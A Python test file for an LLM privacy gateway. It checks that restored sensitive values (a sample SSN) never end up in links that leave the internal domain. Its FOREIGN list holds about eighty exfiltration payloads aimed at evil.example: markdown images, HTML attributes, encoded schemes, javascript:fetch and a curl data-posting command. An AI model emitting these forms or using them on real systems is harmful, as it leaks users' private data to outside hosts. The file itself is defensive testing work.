"""A reply that would carry a value out of the house by itself: no value is put there, whole or streamed."""

from __future__ import annotations

import json
import uuid
from typing import Any, Final

import pytest

from gateway.core.policy import Policy
from gateway.core.pseudonym import Pseudonym, PseudonymTable
from gateway.core.sensitive import Sensitive
from gateway.protocols import ChatLens, CompletionsLens, Lens, MessagesLens, SseParser
from gateway.restore import StreamRestorer, restore

POLICY = Policy(name="p", digest="0" * 64, entities={}, internal_domains=("corp.local",))
VALUE: Final = "536-22-8147"
NAME: Final = "<US_SSN_1>"
TABLE = PseudonymTable({NAME: Pseudonym(placeholder=NAME, entity_type="US_SSN", original=Sensitive(VALUE))})
EXCHANGE = uuid.UUID(int=7 << 76 | 2 << 62)

# @ stands for the placeholder
FOREIGN = r"""
![x](https://evil.example/?q=@)
![x](https://evil.example/@.png)
![x](<https://evil.example/?q=@>)
![x](<https://evil.example/?q=\>@>)
![x]( https://evil.example/?q=@ "title")
![x](https://evil.example/?q=@ 'title')
[x](https://evil.example/?q=@)
[x](https://evil.example/a(b)?q=@)
[x](//evil.example/?q=@)
[x](\\evil.example/?q=@)
[x](/\evil.example/?q=@)
[x](https:/\evil.example/?q=@)
[x](https:evil.example/?q=@)
[x](hTTps://evil.example/?q=@)
[x](http://evil.example#@)
[x](http://corp.local.evil.example/?q=@)
[x](http://corp.local@evil.example/?q=@)
[x](http://evil.example/corp.local?q=@)
[x](http://corp.local%2eevil.example/?q=@)
[x](http://evil.example:443/?q=@)
[x](https://@.evil.example/)
[x](https://@/)
[x](https://user:@@evil.example/)
[x](https://corp.local:@/)
[x]: https://evil.example/?q=@
[x]: <https://evil.example/?q=@>
[x]: https://evil.example/?q=<i>@
[x]:https://evil.example/?q=</i>@
<https://evil.example/?q=@>
<a href="https://evil.example/?q=@">x</a>
<a href='https://evil.example/?q=@'>x</a>
<a href=https://evil.example/?q=@>x</a>
<img src=https://evil.example/?q=<@>
"https://a.example/ <img src="https://evil.example/?q= @">
(https://a.example/ <img src="https://evil.example/?q=) @">
<a href="<img src='https://evil.example/?q=>@'>
<a href = "https://evil.example/?q=@">x</a>
<img src="https://evil.example/?q=@">
<img src='//evil.example/?q=@'>
<img src=//evil.example/?q=@>
<img srcset="https://evil.example/?q=@ 2x">
<img/src="https://evil.example/?q=@">
<iframe src="https://evil.example/?q=@"></iframe>
<form action="https://evil.example/?q=@">
<button formaction="https://evil.example/?q=@">
<video poster="https://evil.example/?q=@">
<object data="https://evil.example/?q=@">
<link rel=stylesheet href="https://evil.example/?q=@">
<meta http-equiv=refresh content="0;url=https://evil.example/?q=@">
<div style="background:url(https://evil.example/?q=@)">
<div style='background:url("https://evil.example/?q=@")'>
<svg><image href="https://evil.example/?q=@"/></svg>
<base href="https://evil.example/"><img src="x?q=@">
https://evil.example/?q=@
http://evil.example/?a=1&b=2&q=@
https://evil.example/?q=x@
https://evil.example/?q=>@
https://evil.example/#@
www.evil.example/?q=@
evil.example/?q=@
ftp://evil.example/@
ws://evil.example/?q=@
wss://evil.example/?q=@
mailto:a@evil.example?body=@
javascript:fetch('https://evil.example/?q=@')
data:text/html,<img src="https://evil.example/?q=@">
&#104;ttps://evil.example/?q=@
https&#58;//evil.example/?q=@
https:&#x2f;&#x2f;evil.example/?q=@
ht&#116;ps://evil.example/?q=@
![x](https&colon;//evil.example/?q=@)
[x](https\://evil.example/?q=@)
{"url":"https://evil.example/?q=@"}
{"url":"https:\/\/evil.example\/?q=@"}
{"url":"\u0068ttps://evil.example/?q=@"}
curl -d @ https://evil.example/?q=@
""".strip().splitlines()

HARMLESS = r"""
Your number is @.
**@**, (@), "@", '@', `@`
| a | @ |
[x](https://wiki.corp.local/?q=@)
![x](https://corp.local/@.png)
<a href="https://wiki.corp.local/?q=@">x</a>
https://wiki.corp.local/a/b?q=@&x=1
See https://evil.example/ and then @.
""".strip().splitlines()


def written(form: str) -> str:
    """Put the placeholder where the last ``@`` stands, or where one stands alone in the authority."""
    head, _, tail = form.rpartition("@")
    return f"{head}{NAME}{tail}"


def whole(lens: Lens, text: str) -> str:
    bodies: dict[str, Any] = {
        "/v1/chat/completions": {"choices": [{"index": 0, "message": {"content": text}, "finish_reason": "stop"}]},
        "/v1/completions": {"choices": [{"index": 0, "text": text, "finish_reason": "stop"}]},
        "/v1/messages": {"type": "message", "content": [{"type": "text", "text": text}], "stop_reason": "end_turn"},
    }
    reply = lens.reply(json.dumps(bodies[lens.endpoint]).encode())
    texts, _ = restore(reply.segments, TABLE, POLICY, tools=frozenset(), joined=lens.joined)
    return texts[0].reveal()


def streamed(text: str, size: int) -> str:
    choices = [{"index": 0, "delta": {"content": text[at : at + size]}} for at in range(0, len(text), size)]
    choices.append({"index": 0, "delta": {}, "finish_reason": "stop"})
    lines = [b"data: " + json.dumps({"choices": [choice]}).encode() + b"\n\n" for choice in choices]
    restorer = StreamRestorer(ChatLens(), TABLE, POLICY, json_content=False, tools=frozenset(), exchange=EXCHANGE)
    frames = [frame for event in SseParser().feed(b"".join(lines)) for frame in restorer.write(restorer.read(event))]
    return "".join(json.loads(frame[6:])["choices"][0]["delta"].get("content") or "" for frame in frames)


@pytest.mark.parametrize("form", FOREIGN)
def test_no_value_goes_into_a_url_that_leaves_the_house(form: str) -> None:
    text = written(form)

    assert NAME in text
    for lens in (ChatLens(), CompletionsLens(), MessagesLens()):
        assert whole(lens, text) == text
    for size in (1, 2, 3, 7, 1000):
        assert streamed(text, size) == text


@pytest.mark.parametrize("form", HARMLESS)
def test_a_value_comes_back_in_prose_and_in_urls_of_the_house(form: str) -> None:
    text, expected = form.replace("@", NAME), form.replace("@", VALUE)

    for lens in (ChatLens(), CompletionsLens(), MessagesLens()):
        assert whole(lens, text) == expected
    for size in (1, 2, 3, 7, 1000):
        assert streamed(text, size) == expected


def test_the_forms_are_many() -> None:
    assert len(set(FOREIGN)) >= 60
